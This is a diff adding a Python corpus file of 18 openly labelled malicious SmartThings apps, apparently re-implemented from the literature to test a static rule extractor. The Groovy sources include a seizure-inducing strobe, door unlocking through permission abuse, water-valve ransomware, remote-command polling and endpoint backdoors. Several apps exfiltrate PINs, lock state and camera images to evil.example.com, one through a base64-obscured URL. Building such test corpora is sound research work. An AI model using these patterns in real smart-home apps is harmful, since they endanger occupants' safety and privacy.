@@ -1,0 +1,511 @@
+"""The 18 malicious SmartApps of paper Table III.
+
+Collected (and here re-implemented) from the literature the paper cites
+[22], [29], [46], [47].  Ten attack classes; the rule extractor handles
+eight — the *endpoint attack* apps define their automation outside the
+app (web endpoints) and the *app update* attack happens server-side
+after review, so static extraction cannot capture those two (the ✗ rows
+of Table III).
+"""
+
+from __future__ import annotations
+
+from repro.corpus.model import CorpusApp
+
+MALICIOUS_APPS: list[CorpusApp] = [
+    CorpusApp(
+        name="CreatingSeizuresUsingStrobedLight",
+        kind="malicious",
+        attack="Malicious Control",
+        description="Embeds strobing logic beyond the app description.",
+        type_hints={"lights": "light"},
+        source='''
+definition(name: "CreatingSeizuresUsingStrobedLight", namespace: "mal",
+    author: "mallory", description: "A relaxing light dimmer")
+
+preferences {
+    input "lights", "capability.switch", multiple: true
+}
+
+def installed() { subscribe(lights, "switch.on", strobeHandler) }
+def updated() { unsubscribe(); subscribe(lights, "switch.on", strobeHandler) }
+
+def strobeHandler(evt) {
+    lights.off()
+    runIn(1, strobeOn)
+}
+
+def strobeOn() {
+    lights.on()
+    runIn(1, strobeOff)
+}
+
+def strobeOff() {
+    lights.off()
+    runIn(1, strobeOn)
+}
+''',
+    ),
+    CorpusApp(
+        name="shiqiBatteryMonitor",
+        kind="malicious",
+        attack="Abusing Permission",
+        description="Claims to monitor batteries but exploits lock permission.",
+        type_hints={"lock1": "doorLock"},
+        source='''
+definition(name: "shiqiBatteryMonitor", namespace: "mal", author: "mallory",
+    description: "Monitors the battery of your lock")
+
+preferences {
+    input "lock1", "capability.lock", title: "Lock to monitor"
+}
+
+def installed() { subscribe(lock1, "battery", batteryHandler) }
+def updated() { unsubscribe(); subscribe(lock1, "battery", batteryHandler) }
+
+def batteryHandler(evt) {
+    def level = evt.value.toInteger()
+    if (level < 95) {
+        // Overprivilege abuse: the battery permission came with the
+        // lock device, so the app can also unlock the door.
+        lock1.unlock()
+    }
+}
+''',
+    ),
+    CorpusApp(
+        name="HelloHome",
+        kind="malicious",
+        attack="Adware",
+        description="Injects advertisements into notification messages.",
+        type_hints={"contact1": "contactSensor"},
+        source='''
+definition(name: "HelloHome", namespace: "mal", author: "mallory",
+    description: "Welcomes you home with a friendly message")
+
+preferences {
+    input "contact1", "capability.contactSensor"
+}
+
+def installed() { subscribe(contact1, "contact.open", doorHandler) }
+def updated() { unsubscribe(); subscribe(contact1, "contact.open", doorHandler) }
+
+def doorHandler(evt) {
+    sendPush("Welcome home! >>> Visit dealz.example.com for 90% off <<<")
+}
+''',
+    ),
+    CorpusApp(
+        name="CODetector",
+        kind="malicious",
+        attack="Adware",
+        description="CO alerts bundled with ad spam.",
+        type_hints={"co1": "smokeDetector"},
+        values={"phone1": "+15550100"},
+        source='''
+definition(name: "CODetector", namespace: "mal", author: "mallory",
+    description: "Carbon monoxide alerts to your phone")
+
+preferences {
+    input "co1", "capability.carbonMonoxideDetector"
+    input "phone1", "phone"
+}
+
+def installed() { subscribe(co1, "carbonMonoxide", coHandler) }
+def updated() { unsubscribe(); subscribe(co1, "carbonMonoxide", coHandler) }
+
+def coHandler(evt) {
+    if (evt.value == "detected") {
+        sendSms(phone1, "CO detected!! Also: buy CO filters at spam.example.com")
+    }
+}
+''',
+    ),
+    CorpusApp(
+        name="LockManager",
+        kind="malicious",
+        attack="Spyware",
+        description="Leaks lock codes over HTTP.",
+        type_hints={"lock1": "doorLock"},
+        source='''
+definition(name: "LockManager", namespace: "mal", author: "mallory",
+    description: "Manage your lock codes easily")
+
+preferences {
+    input "lock1", "capability.lock"
+}
+
+def installed() { subscribe(lock1, "lock", lockHandler) }
+def updated() { unsubscribe(); subscribe(lock1, "lock", lockHandler) }
+
+def lockHandler(evt) {
+    httpPost("http://evil.example.com/collect", "state=${evt.value}&home=${location.name}")
+}
+''',
+    ),
+    CorpusApp(
+        name="shiqiLightController",
+        kind="malicious",
+        attack="Spyware",
+        description="Light control that exfiltrates motion patterns.",
+        type_hints={"motion1": "motionSensor", "light1": "light"},
+        source='''
+definition(name: "shiqiLightController", namespace: "mal", author: "mallory",
+    description: "Turns your lights on when you move")
+
+preferences {
+    input "motion1", "capability.motionSensor"
+    input "light1", "capability.switch"
+}
+
+def installed() { subscribe(motion1, "motion", motionHandler) }
+def updated() { unsubscribe(); subscribe(motion1, "motion", motionHandler) }
+
+def motionHandler(evt) {
+    if (evt.value == "active") {
+        light1.on()
+    }
+    httpGet("http://evil.example.com/track?motion=${evt.value}")
+}
+''',
+    ),
+    CorpusApp(
+        name="DoorLockPinCodeSnooping",
+        kind="malicious",
+        attack="Spyware",
+        description="Leaks entered PIN codes via a side channel.",
+        type_hints={"lock1": "doorLock"},
+        source='''
+definition(name: "DoorLockPinCodeSnooping", namespace: "mal", author: "mallory",
+    description: "Lock usage statistics")
+
+preferences {
+    input "lock1", "capability.lock"
+}
+
+def installed() { subscribe(lock1, "lock", codeHandler) }
+def updated() { unsubscribe(); subscribe(lock1, "lock", codeHandler) }
+
+def codeHandler(evt) {
+    def usedCode = evt.data
+    httpPostJson("http://evil.example.com/pins", [code: usedCode, home: location.id])
+}
+''',
+    ),
+    CorpusApp(
+        name="WaterValve",
+        kind="malicious",
+        attack="Ransomware",
+        description="Holds the water supply hostage until paid.",
+        type_hints={"valve1": "waterValve"},
+        source='''
+definition(name: "WaterValve", namespace: "mal", author: "mallory",
+    description: "Smart water valve manager")
+
+preferences {
+    input "valve1", "capability.valve"
+}
+
+def installed() { subscribe(valve1, "valve.open", valveHandler) }
+def updated() { unsubscribe(); subscribe(valve1, "valve.open", valveHandler) }
+
+def valveHandler(evt) {
+    if (!state.paid) {
+        valve1.close()
+        sendPush("Your water is disabled. Pay 1 BTC to re-enable.")
+    }
+}
+''',
+    ),
+    CorpusApp(
+        name="SmokeDetector",
+        kind="malicious",
+        attack="Remote Control",
+        description="Executes dynamic commands fetched over HTTP.",
+        type_hints={"alarm1": "siren"},
+        source='''
+definition(name: "SmokeDetector", namespace: "mal", author: "mallory",
+    description: "Smarter smoke alarm sounds")
+
+preferences {
+    input "alarm1", "capability.alarm"
+}
+
+def installed() { runEvery1Hour(pollServer) }
+def updated() { unschedule(); runEvery1Hour(pollServer) }
+
+def pollServer() {
+    httpGet("http://evil.example.com/cmd") { resp ->
+        def cmd = resp.data
+        switch (cmd) {
+            case "siren":
+                alarm1.siren()
+                break
+            case "off":
+                alarm1.off()
+                break
+            default:
+                log.debug "idle"
+        }
+    }
+}
+''',
+    ),
+    CorpusApp(
+        name="FireAlarm",
+        kind="malicious",
+        attack="Remote Control",
+        description="Remote-controlled false fire alarms.",
+        type_hints={"alarm1": "siren", "lights": "light"},
+        source='''
+definition(name: "FireAlarm", namespace: "mal", author: "mallory",
+    description: "Flash the lights when smoke is detected")
+
+preferences {
+    input "alarm1", "capability.alarm"
+    input "lights", "capability.switch", multiple: true
+}
+
+def installed() { runEvery5Minutes(checkServer) }
+def updated() { unschedule(); runEvery5Minutes(checkServer) }
+
+def checkServer() {
+    httpGet("http://evil.example.com/firealarm") { resp ->
+        if (resp.data == "fire") {
+            alarm1.both()
+            lights.on()
+        }
+    }
+}
+''',
+    ),
+    CorpusApp(
+        name="MaliciousCameraIPC",
+        kind="malicious",
+        attack="IPC",
+        description="Colludes with PresenceSensor app through state exchange.",
+        type_hints={"cam1": "camera"},
+        source='''
+definition(name: "MaliciousCameraIPC", namespace: "mal", author: "mallory",
+    description: "Camera assistant")
+
+preferences {
+    input "cam1", "capability.imageCapture"
+}
+
+def installed() { subscribe(location, "mode", modeHandler) }
+def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
+
+def modeHandler(evt) {
+    // Collusion channel: the PresenceSensor app encodes "nobody home"
+    // by flipping the mode; this app then captures and leaks images.
+    if (evt.value == "Away") {
+        cam1.take()
+        httpPost("http://evil.example.com/images", "home=${location.id}")
+    }
+}
+''',
+    ),
+    CorpusApp(
+        name="PresenceSensor",
+        kind="malicious",
+        attack="IPC",
+        description="Colludes with MaliciousCameraIPC by signaling via mode.",
+        type_hints={"presence1": "presenceSensor"},
+        source='''
+definition(name: "PresenceSensor", namespace: "mal", author: "mallory",
+    description: "Keeps your mode in sync with your presence")
+
+preferences {
+    input "presence1", "capability.presenceSensor"
+}
+
+def installed() { subscribe(presence1, "presence", presenceHandler) }
+def updated() { unsubscribe(); subscribe(presence1, "presence", presenceHandler) }
+
+def presenceHandler(evt) {
+    if (evt.value == "not present") {
+        setLocationMode("Away")
+    }
+}
+''',
+    ),
+    CorpusApp(
+        name="AutoCamera2",
+        kind="malicious",
+        attack="Shadow Payload",
+        description="Sends images to an attacker URL hidden in config.",
+        type_hints={"cam1": "camera", "motion1": "motionSensor"},
+        source='''
+definition(name: "AutoCamera2", namespace: "mal", author: "mallory",
+    description: "Automatic photos when motion is detected")
+
+preferences {
+    input "cam1", "capability.imageCapture"
+    input "motion1", "capability.motionSensor"
+}
+
+def installed() { subscribe(motion1, "motion.active", motionHandler) }
+def updated() { unsubscribe(); subscribe(motion1, "motion.active", motionHandler) }
+
+def motionHandler(evt) {
+    cam1.take()
+    def target = "aHR0cDovL2V2aWwuZXhhbXBsZS5jb20="
+    httpPost("http://cdn.example.com/upload?k=${target}", "img=latest")
+}
+''',
+    ),
+    CorpusApp(
+        name="BackdoorPinCodeInjection",
+        kind="malicious",
+        attack="Endpoint Attack",
+        expect_extractable=False,
+        description="Web-service app whose malicious logic is driven by endpoints.",
+        type_hints={"lock1": "doorLock"},
+        source='''
+definition(name: "BackdoorPinCodeInjection", namespace: "mal", author: "mallory",
+    description: "Remote lock management API")
+
+preferences {
+    input "lock1", "capability.lock"
+}
+
+mappings {
+    path("/inject") {
+        action: [POST: "injectCode"]
+    }
+}
+
+def installed() { createAccessToken() }
+def updated() { }
+
+def injectCode() {
+    // The automation is defined by whoever calls the endpoint, outside
+    // the app: static analysis sees the handler but not the rule.
+    def pin = params.pin
+    lock1.unlock()
+}
+''',
+    ),
+    CorpusApp(
+        name="DisablingVacationMode",
+        kind="malicious",
+        attack="Endpoint Attack",
+        expect_extractable=False,
+        description="Endpoint-driven vacation-mode disabling.",
+        type_hints={},
+        source='''
+definition(name: "DisablingVacationMode", namespace: "mal", author: "mallory",
+    description: "Vacation schedule helper")
+
+preferences {
+    input "anything", "capability.sensor", required: false
+}
+
+mappings {
+    path("/disable") {
+        action: [GET: "disableVacation"]
+    }
+}
+
+def installed() { createAccessToken() }
+def updated() { }
+
+def disableVacation() {
+    setLocationMode("Home")
+}
+''',
+    ),
+    CorpusApp(
+        name="BonVoyageRepackaging",
+        kind="malicious",
+        attack="App Update",
+        expect_extractable=False,
+        description="Benign at review time; malicious logic arrives via update.",
+        type_hints={"presence1": "presenceSensor"},
+        source='''
+definition(name: "BonVoyageRepackaging", namespace: "mal", author: "mallory",
+    description: "Sets Away mode when everyone leaves")
+
+preferences {
+    input "presence1", "capability.presenceSensor", multiple: true
+}
+
+def installed() { subscribe(presence1, "presence", presenceHandler) }
+def updated() { unsubscribe(); subscribe(presence1, "presence", presenceHandler) }
+
+def presenceHandler(evt) {
+    // At submission this is all the app does; the attack arrives later
+    // through a cloud-side update without user awareness.
+    if (evt.value == "not present") {
+        setLocationMode("Away")
+    }
+}
+''',
+    ),
+    CorpusApp(
+        name="PowersOutAlert",
+        kind="malicious",
+        attack="App Update",
+        expect_extractable=False,
+        description="Update-attack variant of a power monitor.",
+        type_hints={"meter1": "powerMeter"},
+        source='''
+definition(name: "PowersOutAlert", namespace: "mal", author: "mallory",
+    description: "Alerts when power drops")
+
+preferences {
+    input "meter1", "capability.powerMeter"
+}
+
+def installed() { subscribe(meter1, "power", powerHandler) }
+def updated() { unsubscribe(); subscribe(meter1, "power", powerHandler) }
+
+def powerHandler(evt) {
+    def w = evt.value.toInteger()
+    if (w < 5) {
+        sendPush("Power appears to be out!")
+    }
+}
+''',
+    ),
+    CorpusApp(
+        name="MidnightCamera",
+        kind="malicious",
+        attack="Malicious Control",
+        description="Takes covert photos on a midnight schedule.",
+        type_hints={"cam1": "camera"},
+        source='''
+definition(name: "MidnightCamera", namespace: "mal", author: "mallory",
+    description: "Nightly security snapshot")
+
+preferences {
+    input "cam1", "capability.imageCapture"
+    input "snapTime", "time", title: "Snapshot time"
+}
+
+def installed() { schedule(snapTime, takeSnap) }
+def updated() { unschedule(); schedule(snapTime, takeSnap) }
+
+def takeSnap() {
+    cam1.take()
+    httpPost("http://evil.example.com/night", "img=latest")
+}
+''',
+    ),
+]
+
+# Attack classes where static rule extraction is expected to succeed
+# (Table III "Can handle?" = yes).
+HANDLED_ATTACKS = {
+    "Malicious Control",
+    "Abusing Permission",
+    "Adware",
+    "Spyware",
+    "Ransomware",
+    "Remote Control",
+    "IPC",
+    "Shadow Payload",
+}
+
+UNHANDLED_ATTACKS = {"Endpoint Attack", "App Update"}
